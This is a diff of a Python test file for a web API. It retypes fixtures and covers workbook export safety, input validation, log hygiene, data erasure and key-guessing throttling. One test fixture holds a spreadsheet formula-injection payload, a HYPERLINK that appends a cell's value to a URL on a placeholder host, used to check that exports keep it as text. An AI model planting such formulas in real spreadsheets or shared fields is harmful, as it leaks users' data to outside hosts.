@@ -15,26 +15,28 @@ from sqlalchemy import String, select, update
 
 from api.http.app import create_app
 from api.settings import Settings
+from models.store import Store
 from models.store import tables as t
 from tests.api.test_api import AS_OF, problem
+from tests.conftest import Api
 
 pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")
 
 FORMULA = '=HYPERLINK("http://example.invalid/?x="&B2,"Open rapport")'
 
 
-def _obligation(api: Any) -> str:
+def _obligation(api: Api) -> str:
     return str(api.get("/obligations?limit=1").json()["items"][0]["obligation_id"])
 
 
-def _workbook(api: Any, role: str = "coach") -> str:
+def _workbook(api: Api, role: str = "coach") -> str:
     r = api.get(f"/reports/monitoring.xlsx?today={AS_OF}", role=role)
     assert r.status_code == 200, r.text
     with zipfile.ZipFile(io.BytesIO(r.content)) as book:
         return "".join(book.read(n).decode() for n in book.namelist() if n.endswith(".xml"))
 
 
-def test_a_formula_typed_into_a_shared_field_stays_text_in_every_workbook(api: Any) -> None:
+def test_a_formula_typed_into_a_shared_field_stays_text_in_every_workbook(api: Api) -> None:
     obligation = _obligation(api)
     r = api.patch(f"/obligations/{obligation}", role="adviseur", json={"client": FORMULA})
     assert r.status_code == 200, r.text
@@ -44,7 +46,7 @@ def test_a_formula_typed_into_a_shared_field_stays_text_in_every_workbook(api: A
     assert "'=HYPERLINK" in content
 
 
-def test_a_control_character_is_refused_at_the_door(api: Any) -> None:
+def test_a_control_character_is_refused_at_the_door(api: Api) -> None:
     obligation = _obligation(api)
     body = problem(api.patch(f"/obligations/{obligation}", json={"client": "Gemeente\u0004Groningen"}), 422)
     assert body["errors"][0]["field"] == "client"
@@ -54,7 +56,7 @@ def test_a_control_character_is_refused_at_the_door(api: Any) -> None:
     assert (body["errors"][0]["field"], body["errors"][0]["row"]) == ("name", 2)
 
 
-def test_a_control_character_already_stored_breaks_no_workbook(api: Any) -> None:
+def test_a_control_character_already_stored_breaks_no_workbook(api: Api) -> None:
     obligation = _obligation(api)
     with api.store.begin() as conn:  # written to the database directly, past validation
         conn.execute(
@@ -69,14 +71,14 @@ def test_a_control_character_already_stored_breaks_no_workbook(api: Any) -> None
 
 
 @pytest.fixture
-def strict_client(api: Any) -> Iterator[TestClient]:
+def strict_client(api: Api) -> Iterator[TestClient]:
     """A client that lets an unhandled error escape the app, as it would reach the server's log."""
     with TestClient(api.client.app, raise_server_exceptions=True) as client:
         yield client
 
 
 def test_an_unexpected_error_logs_its_type_only(
-    api: Any, strict_client: TestClient, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+    api: Api, strict_client: TestClient, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
 ) -> None:
     from api.services.reports import ReportService
 
@@ -98,7 +100,7 @@ def _text_columns() -> list[tuple[Any, Any]]:
     return [(table, c) for table in t.metadata.sorted_tables for c in table.columns if isinstance(c.type, String)]
 
 
-def test_erasure_leaves_the_id_in_no_text_column(api: Any) -> None:
+def test_erasure_leaves_the_id_in_no_text_column(api: Api) -> None:
     with api.store.connect() as conn:
         who = conn.execute(
             select(t.placements.c.candidate_id)
@@ -138,7 +140,7 @@ def test_erasure_leaves_the_id_in_no_text_column(api: Any) -> None:
 
 
 @pytest.fixture
-def throttled(sample_store: Any, db_url: str) -> Iterator[Any]:
+def throttled(sample_store: Store, db_url: str) -> Iterator[tuple[TestClient, TestClient]]:
     app = create_app(Settings(database_url=db_url, auth_failures_per_minute=5), store=sample_store)
     # one lifespan: the second client only sends from another address (entering the app twice would start
     # a second set of background services that the first exit does not stop, still reading the store
@@ -147,7 +149,7 @@ def throttled(sample_store: Any, db_url: str) -> Iterator[Any]:
         yield guesser, TestClient(app, raise_server_exceptions=False, client=("192.0.2.7", 50000))
 
 
-def test_guessing_keys_is_throttled_with_retry_after(api: Any, throttled: Any) -> None:
+def test_guessing_keys_is_throttled_with_retry_after(api: Api, throttled: tuple[TestClient, TestClient]) -> None:
     guesser, other = throttled
     good = {"X-API-Key": api.key("coach")}
     for _ in range(20):  # a valid key is never counted, never slowed
@@ -163,7 +165,7 @@ def test_guessing_keys_is_throttled_with_retry_after(api: Any, throttled: Any) -
     assert other.get("/api/v1/me", headers=good).status_code == 200  # another address is not held up
 
 
-def test_options_names_the_allowed_methods(api: Any) -> None:
+def test_options_names_the_allowed_methods(api: Api) -> None:
     r = api.client.options("/api/v1/candidates/KND-000001")
     assert r.status_code == 204
     assert set(r.headers["Allow"].split(", ")) == {"GET", "PATCH", "DELETE", "OPTIONS"}
@@ -172,14 +174,14 @@ def test_options_names_the_allowed_methods(api: Any) -> None:
     assert set(r.headers["Allow"].split(", ")) == {"GET", "PATCH", "DELETE", "OPTIONS"}
 
 
-def test_timestamps_carry_their_time_zone(api: Any) -> None:
+def test_timestamps_carry_their_time_zone(api: Api) -> None:
     row = api.get("/candidates?limit=1", role="coach").json()["items"][0]
     assert re.search(r"(Z|[+-]\d\d:\d\d)$", row["updated_at"]), row["updated_at"]
     event = api.get("/audit?limit=1").json()["items"][0]
     assert re.search(r"(Z|[+-]\d\d:\d\d)$", event["at"]), event["at"]
 
 
-def test_every_status_the_api_answers_is_documented(api: Any) -> None:
+def test_every_status_the_api_answers_is_documented(api: Api) -> None:
     schema = api.client.get("/api/v1/openapi.json").json()
     assert "500" in schema["paths"]["/healthz"]["get"]["responses"]
     for path, operations in schema["paths"].items():
@@ -191,7 +193,7 @@ def test_every_status_the_api_answers_is_documented(api: Any) -> None:
             assert not missing, f"{method.upper()} {path} lacks {sorted(missing)}"
 
 
-def test_an_authorization_header_that_is_not_a_bearer_key_is_refused(api: Any) -> None:
+def test_an_authorization_header_that_is_not_a_bearer_key_is_refused(api: Api) -> None:
     """Credentials that do not parse are not ignored in favour of another header (found by schemathesis)."""
     key = api.headers("coach")
     assert api.client.get("/api/v1/me", headers=key).status_code == 200
